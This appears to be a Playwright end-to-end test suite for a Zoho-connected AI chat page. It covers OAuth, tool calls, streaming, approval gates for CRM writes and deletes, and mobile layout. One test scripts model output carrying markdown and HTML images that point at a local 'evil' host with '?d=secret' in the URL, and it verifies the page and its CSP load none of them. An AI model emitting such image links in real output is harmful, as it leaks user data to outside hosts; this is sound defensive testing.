// The chat page at `/` in real headless Chromium (Debian's `chromium`, driven by playwright-core)
// against the real runtime on 127.0.0.1 with the fake Zoho and the fake OpenRouter.
// Screenshots of each step go to test/artifacts/chat-page/ (ignored by git) for a person to look at.
import { existsSync, mkdirSync } from 'node:fs';
import { createServer as createHttpServer, type Server } from 'node:http';
import { createServer as createNetServer, type AddressInfo } from 'node:net';
import { serve } from '@hono/node-server';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testDatabases } from '../support/databases.ts';
import { startFakeOpenRouter, type FakeOpenRouter } from '../support/fake-openrouter.ts';
import { startFakeZoho, type FakeZoho } from '../support/fake-zoho.ts';
import { startTestRuntime, type TestRuntime } from '../support/test-runtime.ts';

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const hasChromium = existsSync(CHROMIUM);
if (!hasChromium) {
  console.warn(`[chat-page e2e] SKIPPED: no Chromium at ${CHROMIUM}. Install it with: apt-get install -y chromium (.ci/run does).`);
}

const ARTIFACTS = new URL('../artifacts/chat-page/', import.meta.url);
const ZUID = '80001';
const EMAIL = 'ada@example.com';
const USER = 'ada';

async function freePort(): Promise<number> {
  const probe = createNetServer();
  await new Promise<void>((resolve) => probe.listen(0, '127.0.0.1', resolve));
  const { port } = probe.address() as AddressInfo;
  await new Promise<void>((resolve) => probe.close(() => resolve()));
  return port;
}

(hasChromium ? describe : describe.skip)('chat page in Chromium', () => {
  let fake: FakeZoho;
  let llm: FakeOpenRouter;
  let t: TestRuntime;
  let drop: () => Promise<void>;
  let base: string;
  let closeServer: () => Promise<void>;
  let evil: Server;
  let evilUrl: string;
  const evilHits: string[] = [];
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  const consoleLines: string[] = [];
  const pageErrors: string[] = [];

  const shot = (name: string, target: Page = page) => target.screenshot({ path: new URL(`${name}.png`, ARTIFACTS).pathname, fullPage: false });
  const answers = () => page.locator('.msg-assistant');
  const lastAnswer = () => answers().last();

  beforeAll(async () => {
    mkdirSync(ARTIFACTS, { recursive: true });
    // The runtime's port is chosen first: Zoho sends the browser back to the registered redirect URI.
    const port = await freePort();
    base = `http://127.0.0.1:${port}`;
    fake = await startFakeZoho({ redirectUri: `${base}/auth/zoho/callback` });
    fake.addUser({ zuid: ZUID, email: EMAIL, orgId: '9001', deskOrgIds: ['555'] });
    llm = await startFakeOpenRouter();
    const db = testDatabases()[0]!.create();
    drop = db.drop;
    t = await startTestRuntime({
      fake,
      database: db.options,
      env: { OPENROUTER_API_KEY: llm.apiKey, OPENROUTER_BASE_URL: llm.baseURL },
    });
    const server = serve({ fetch: t.runtime.app.fetch, port, hostname: '127.0.0.1' });
    await new Promise<void>((resolve) => server.once('listening', () => resolve()));
    closeServer = () => new Promise<void>((resolve) => {
      (server as any).closeAllConnections?.();
      server.close(() => resolve());
    });

    // A host that model output tries to load an image from (reliability A7): it must see no request.
    evil = createHttpServer((req, res) => {
      evilHits.push(req.url ?? '');
      res.end('x');
    });
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
    evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;

    const { chromium } = await import('playwright-core');
    browser = await chromium.launch({
      executablePath: CHROMIUM,
      headless: true,
      args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
        '--disable-component-update', '--disable-sync'],
    });
    context = await browser.newContext({ viewport: { width: 1200, height: 800 } });
    // Zoho's consent screen, played by the test: it issues a code bound to the PKCE challenge and
    // links back to the redirect URI with code, state, location and accounts-server, as Zoho does.
    await context.route((url) => url.href.startsWith(`${fake.url}/oauth/v2/auth?`), async (route) => {
      const authorize = new URL(route.request().url());
      const q = authorize.searchParams;
      const code = fake.issueCode(ZUID, { codeChallenge: q.get('code_challenge') ?? undefined });
      const back = new URL(q.get('redirect_uri')!);
      back.search = new URLSearchParams({ code, state: q.get('state')!, location: 'us', 'accounts-server': fake.url }).toString();
      await route.fulfill({
        status: 200,
        contentType: 'text/html',
        body: `<!doctype html><meta name="viewport" content="width=device-width"><title>Zoho Accounts (fake)</title>
<body style="font-family:sans-serif;padding:1rem;overflow-wrap:anywhere"><h1>Allow access?</h1><p>${escapeHtml(q.get('client_id') ?? '')} asks for
${escapeHtml(q.get('scope') ?? '')}</p><p><a id="accept" href="${escapeHtml(back.href)}">Accept</a></p></body>`,
      });
    });
    page = await context.newPage();
    page.on('console', (m) => consoleLines.push(`${m.type()}: ${m.text()}`));
    page.on('pageerror', (e) => pageErrors.push(String(e)));
    page.on('dialog', (d) => void d.accept());
  });

  afterAll(async () => {
    await browser?.close();
    await closeServer?.();
    await new Promise<void>((resolve) => (evil ? evil.close(() => resolve()) : resolve()));
    await t?.close();
    await drop?.();
    await llm?.close();
    await fake?.close();
  });

  it('serves the page with its CSP and signs in with the development sign-in', async () => {
    const response = await page.goto(`${base}/`);
    expect(response?.status()).toBe(200);
    const headers = response!.headers();
    expect(headers['content-security-policy']).toContain("default-src 'self'; img-src 'self' data:; connect-src 'self'; script-src 'self'; style-src 'self'; frame-ancestors 'none'");
    expect(headers['x-content-type-options']).toBe('nosniff');
    await page.locator('#signin-user').waitFor();
    await shot('01-sign-in');

    await page.fill('#signin-user', USER);
    await page.click('#signin-form button[type=submit]');
    await page.locator('#user-chip', { hasText: USER }).waitFor();
    await page.locator('.conn-empty', { hasText: 'No Zoho account connected' }).waitFor();
    await page.locator('.welcome').waitFor();
    await shot('02-signed-in');
    expect(await page.evaluate(() => localStorage.getItem('zoho-runtime.token'))).toMatch(/^ey/);
  });

  it('connects a Zoho account through the OAuth round trip', async () => {
    await page.selectOption('#dc-select', 'com');
    const popupOpened = page.waitForEvent('popup');
    await page.click('#connect-zoho');
    const popup = await popupOpened;
    await popup.locator('#accept').waitFor();
    await shot('03-zoho-consent', popup);
    await popup.click('#accept');

    // The page sees the popup back on the callback, closes it and reloads the list.
    const row = page.locator('.conn', { hasText: EMAIL });
    await row.waitFor();
    await expect.poll(() => row.locator('.badge').textContent()).toBe('Connected');
    expect(await row.locator('.conn-meta').textContent()).toContain('United States (com)');
    await page.locator('.panel-note.ok').waitFor();
    await expect.poll(() => popup.isClosed()).toBe(true);
    await shot('04-connected');

    const stored = await t.runtime.store.listForUser(USER);
    expect(stored).toHaveLength(1);
    expect(fake.counts.codeExchanges).toBe(1);
  });

  it('asks a question answered with a tool: status line, result, streamed answer; model images load nothing', async () => {
    const first = llm.requests.length;
    llm.script(
      { toolCalls: [
        { id: 'call_org_1', name: 'crm_get_org', arguments: {} },
        // perPage as a string: the runtime repairs it before running, and the page shows the repair.
        { id: 'call_search_1', name: 'crm_search_records', arguments: { module: 'Contacts', email: EMAIL, perPage: '5' } },
      ] },
      [{ text: ['Your organisation ', 'is **Fake Org** ', '(id `9001`).\n\n', '- CRM: connected\n', '- Desk: connected\n\n',
        `![tracking](${evilUrl}/pixel.png?d=secret) <img src="${evilUrl}/raw.png"> done.`] }, { chunkDelayMs: 250 }],
    );
    fake.inject({ path: '/crm/v8/org', method: 'GET', delayMs: 900 }); // long enough to see the call running

    await page.fill('#prompt', 'Which Zoho organisation am I connected to?');
    await page.keyboard.press('Enter');

    const tool = lastAnswer().locator('.tool[data-tool="crm_get_org"]');
    await tool.locator('.tool-status', { hasText: 'Calling Zoho tool: crm_get_org...' }).waitFor();
    expect(await tool.getAttribute('class')).toContain('tool-running');
    expect(await page.isVisible('#stop')).toBe(true);
    await shot('05-tool-running');

    await tool.locator('.tool-outcome', { hasText: 'Done' }).waitFor();
    // The answer streams: part of it is on screen while the run is still going.
    await lastAnswer().locator('.md', { hasText: 'Fake Org' }).waitFor();
    expect(await page.isVisible('#stop')).toBe(true);
    expect(await lastAnswer().locator('.md').textContent()).not.toContain('done.');
    await shot('06-answer-streaming');

    await page.locator('#send').waitFor({ state: 'visible' });
    await lastAnswer().locator('.md', { hasText: 'done.' }).waitFor();
    expect(await lastAnswer().locator('.md strong').textContent()).toBe('Fake Org');
    expect(await lastAnswer().locator('.md li').count()).toBe(2);
    expect(await lastAnswer().getAttribute('data-state')).toBe('done');

    const search = lastAnswer().locator('.tool[data-tool="crm_search_records"]');
    await search.locator('.tool-repair', { hasText: 'perPage' }).waitFor();
    await search.locator('.tool-outcome').waitFor();

    await tool.locator('summary').click();
    const pre = tool.locator('pre');
    expect(await pre.first().textContent()).toBe('{}');
    expect(await pre.last().textContent()).toContain('9001');
    await shot('07-answer-with-tool-details');

    // What the browser sent: the question as the last user turn.
    expect(llm.requests[first]!.body.messages.at(-1)).toMatchObject({ role: 'user', content: 'Which Zoho organisation am I connected to?' });

    // A7: no image element from model output, and the CSP refuses one even when planted directly.
    expect(await lastAnswer().locator('img').count()).toBe(0);
    await page.evaluate((src) => {
      const img = document.createElement('img');
      img.id = 'planted';
      img.src = src;
      document.body.append(img);
    }, `${evilUrl}/planted.png?d=secret`);
    await expect.poll(() => consoleLines.some((l) => /Content Security Policy/i.test(l) && l.includes('planted.png'))).toBe(true);
    await page.evaluate(() => document.getElementById('planted')?.remove());
    expect(evilHits).toEqual([]);
  });

  it('keeps the earlier turn\'s tool calls and results on a follow-up, under the model\'s own ids', async () => {
    const index = llm.requests.length;
    llm.script({ text: 'Its id is 9001.' });
    await page.fill('#prompt', 'And what is its id?');
    await page.keyboard.press('Enter');
    await lastAnswer().locator('.md', { hasText: 'Its id is 9001.' }).waitFor();
    await page.locator('#send').waitFor({ state: 'visible' });
    const sent = llm.requests[index]!.body.messages;
    expect(sent.map((m: any) => m.role)).toEqual(['system', 'user', 'assistant', 'tool', 'tool', 'assistant', 'user']);
    expect(sent[2].tool_calls.map((c: any) => c.id)).toEqual(['call_org_1', 'call_search_1']);
    expect(sent[3]).toMatchObject({ tool_call_id: 'call_org_1' });
    expect(sent[3].content).toContain('9001');
    expect(sent.at(-1)).toMatchObject({ role: 'user', content: 'And what is its id?' });
  });

  it('stops a stream midway and the model request is aborted', async () => {
    const index = llm.requests.length;
    const words = Array.from({ length: 40 }, (_, i) => ` word${i + 1}`);
    llm.script([{ text: ['Counting:', ...words] }, { chunkDelayMs: 200 }]);
    await page.fill('#prompt', 'Count slowly to forty.');
    await page.click('#send');
    await lastAnswer().locator('.md', { hasText: 'word2' }).waitFor();
    await page.click('#stop');
    expect(await llm.waitForAbort(index, 3000)).toBe(true);

    await lastAnswer().locator('.note', { hasText: 'Stopped.' }).waitFor();
    await page.locator('#send').waitFor({ state: 'visible' });
    const text = (await lastAnswer().locator('.md').textContent()) ?? '';
    expect(text).toContain('Counting:');
    expect(text).not.toContain('word40');
    expect(await lastAnswer().getAttribute('data-state')).toBe('stopped');
    await shot('08-stopped');
  });

  it('keeps the conversation across a reload', async () => {
    await page.reload();
    await page.locator('.msg-user', { hasText: 'Which Zoho organisation am I connected to?' }).waitFor();
    await page.locator('.msg-assistant .md', { hasText: 'Fake Org' }).waitFor();
    await page.locator('.msg-assistant .tool-status', { hasText: 'Calling Zoho tool: crm_get_org...' }).waitFor();
    await page.locator('.msg-assistant .note', { hasText: 'Stopped.' }).waitFor();
    expect(await page.locator('.msg').count()).toBe(6);
  });

  it('shows a reconnect button for a connection that needs one, and reconnecting works', async () => {
    const [connection] = await t.runtime.store.listForUser(USER);
    await t.runtime.store.markNeedsReconnect(connection!.id);
    await page.click('.panel-head button');
    const row = page.locator('.conn', { hasText: EMAIL });
    await row.locator('.badge', { hasText: 'Needs reconnect' }).waitFor();
    await row.locator('button', { hasText: 'Reconnect' }).waitFor();

    // In the chat too: the run says so, with a button that does it.
    llm.script({ text: 'Your Zoho connection needs to be renewed: use the Reconnect button.' });
    await page.fill('#prompt', 'List my open tickets');
    await page.click('#send');
    const action = lastAnswer().locator('.action', { hasText: 'connect Zoho again' });
    await action.waitFor();
    await page.locator('#send').waitFor({ state: 'visible' });
    await shot('09-needs-reconnect');

    const popupOpened = page.waitForEvent('popup');
    await action.locator('button', { hasText: 'Reconnect Zoho' }).click();
    const popup = await popupOpened;
    await popup.click('#accept');
    await row.locator('.badge', { hasText: 'Connected' }).waitFor();
    expect((await t.runtime.store.listForUser(USER))[0]!.status).toBe('active');
  });

  it('holds a write for approval: Approve runs it and the answer goes on', async () => {
    const approvalBodies: any[] = [];
    const onRequest = (r: import('playwright-core').Request) => {
      if (r.url().endsWith('/api/chat/approvals')) approvalBodies.push(r.postDataJSON());
    };
    page.on('request', onRequest);
    try {
      llm.script(
        { toolCalls: [{ id: 'call_lead_1', name: 'crm_create_record', arguments: { module: 'Leads', record: { Last_Name: 'Lovelace', Company: 'Analytical Engines' } } }] },
        { text: ['I created the lead ', '**Lovelace**.'] },
      );
      await page.fill('#prompt', 'Create a lead for Ada Lovelace at Analytical Engines');
      await page.click('#send');
      const box = lastAnswer().locator('.action-approval');
      await box.locator('button', { hasText: 'Approve' }).waitFor();
      await box.locator('button', { hasText: 'Deny' }).waitFor();
      await page.locator('#send').waitFor({ state: 'visible' });
      const held = lastAnswer().locator('.tool[data-tool="crm_create_record"]');
      expect(await held.getAttribute('class')).toContain('tool-waiting');
      expect(fake.requestsTo('/crm/v8/Leads', 'POST')).toHaveLength(0);
      await shot('10-approval');

      await box.locator('button', { hasText: 'Approve' }).click();
      await held.locator('.tool-status', { hasText: 'Calling Zoho tool: crm_create_record...' }).waitFor();
      await held.locator('.tool-outcome', { hasText: 'Done' }).waitFor();
      await lastAnswer().locator('.md strong', { hasText: 'Lovelace' }).waitFor();
      await box.locator('text=You approved this.').waitFor();
      await page.locator('#send').waitFor({ state: 'visible' });
      expect(fake.requestsTo('/crm/v8/Leads', 'POST')).toHaveLength(1);
      // The server names the call itself; the page sends back that id and the hash of the params it showed.
      expect(approvalBodies).toEqual([{ callId: await held.getAttribute('data-call-id'), decision: 'approve', paramsHash: expect.any(String) }]);
      await shot('11-approved');
    } finally {
      page.off('request', onRequest);
    }
  });

  it('holds a write for approval: Deny does not run it', async () => {
    const leadId = [...fake.crm.records.get('Leads')!.keys()][0]!;
    llm.script(
      { toolCalls: [{ id: 'call_del_1', name: 'crm_delete_record', arguments: { module: 'Leads', id: leadId } }] },
      { text: 'Understood: I did not delete it.' },
    );
    await page.fill('#prompt', 'Delete that old lead');
    await page.click('#send');
    const box = lastAnswer().locator('.action-approval');
    await box.locator('button', { hasText: 'Deny' }).waitFor();
    // A delete looks like one: red, and Deny comes first.
    expect(await box.getAttribute('class')).toContain('action-danger');
    expect(await box.locator('.action-buttons button').first().textContent()).toBe('Deny');
    expect(await box.locator('.approval-fields dd').allTextContents()).toEqual(['Leads', leadId]);
    await shot('12-destructive-approval');
    await box.locator('button', { hasText: 'Deny' }).click();
    await lastAnswer().locator('.tool[data-tool="crm_delete_record"] .tool-outcome', { hasText: 'Not run: you denied it.' }).waitFor();
    await lastAnswer().locator('.md', { hasText: 'did not delete' }).waitFor();
    await box.locator('text=You denied this.').waitFor();
    expect(fake.requestsTo(/\/crm\/v8\/Leads/, 'DELETE')).toHaveLength(0);
  });

  it('cancels an open approval when a new message is sent: its buttons are disabled and the model is told', async () => {
    const leadId = [...fake.crm.records.get('Leads')!.keys()][0]!;
    llm.script({ toolCalls: [{ id: 'call_del_2', name: 'crm_delete_record', arguments: { module: 'Leads', id: leadId } }] });
    await page.fill('#prompt', 'Delete that lead after all');
    await page.click('#send');
    await lastAnswer().locator('.action-approval button', { hasText: 'Approve' }).waitFor();
    // Pinned to this answer: the next message adds a newer one.
    const box = answers().nth((await answers().count()) - 1).locator('.action-approval');
    await page.locator('#send').waitFor({ state: 'visible' });

    const index = llm.requests.length;
    llm.script({ text: 'Here are your deals.' });
    await page.fill('#prompt', 'Never mind, list the deals');
    await page.click('#send');
    await lastAnswer().locator('.md', { hasText: 'Here are your deals.' }).waitFor();
    await box.locator('text=Cancelled: you sent a new message').waitFor();
    expect(await box.locator('button', { hasText: 'Approve' }).isDisabled()).toBe(true);
    expect(await box.locator('button', { hasText: 'Deny' }).isDisabled()).toBe(true);
    await page.locator('#send').waitFor({ state: 'visible' });
    expect(await box.locator('button', { hasText: 'Approve' }).isDisabled()).toBe(true); // still, once the run is over
    const told = llm.requests[index]!.body.messages.find((m: any) => m.role === 'tool' && m.tool_call_id === 'call_del_2');
    expect(told.content).toContain('NOT_RUN');
    expect(fake.requestsTo(/\/crm\/v8\/Leads/, 'DELETE')).toHaveLength(0);
    await shot('13-approval-cancelled');
  });

  it('shows a failed run in plain words', async () => {
    llm.script({ error: { status: 402, message: 'Insufficient credits' } });
    await page.fill('#prompt', 'Summarise my pipeline');
    await page.click('#send');
    const box = lastAnswer().locator('.error-box');
    await box.waitFor();
    expect(await box.locator('strong').textContent()).toBe('The AI model could not answer right now. Try again in a moment.');
    expect(await box.locator('.detail').textContent()).toContain('LLM_ERROR');
    await page.locator('#send').waitFor({ state: 'visible' });
    await shot('14-error');
  });

  it('works at 375 px wide', async () => {
    await page.setViewportSize({ width: 375, height: 740 });
    await page.locator('.msg').first().waitFor();
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(375);
    expect(await page.isVisible('#connections')).toBe(false);
    await shot('15-phone-chat');
    await page.click('#toggle-connections');
    await page.locator('.conn', { hasText: EMAIL }).waitFor();
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(375);
    await shot('16-phone-connections');
    await page.click('#toggle-connections');
    await page.setViewportSize({ width: 1200, height: 800 });
  });

  it('takes a token from its host app: a #token= fragment, or postMessage from the opener', async () => {
    const viaFragment = await context.newPage();
    await viaFragment.goto(`${base}/#token=${await t.tokenFor('bob')}`);
    await viaFragment.locator('#user-chip', { hasText: 'bob' }).waitFor();
    expect(new URL(viaFragment.url()).hash).toBe(''); // taken out of the address bar
    await viaFragment.close();

    const carol = await t.tokenFor('carol');
    const popupOpened = page.waitForEvent('popup');
    await page.evaluate((token) => {
      const w = window.open('/', 'host-handoff');
      window.addEventListener('message', (e) => {
        if (e.source === w && e.data?.type === 'zoho-runtime-ready') w!.postMessage({ type: 'zoho-runtime-token', token }, location.origin);
      });
    }, carol);
    const hosted = await popupOpened;
    await hosted.locator('#user-chip', { hasText: 'carol' }).waitFor();
    await hosted.locator('.conn-empty', { hasText: 'No Zoho account connected' }).waitFor();
    await hosted.close();
  });

  it('raised no script error in the page', () => {
    expect(pageErrors).toEqual([]);
    expect(consoleLines.filter((l) => l.startsWith('error:') && !l.includes('planted.png'))).toEqual([]);
  });
});

function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (ch) => `&#${ch.charCodeAt(0)};`);
}
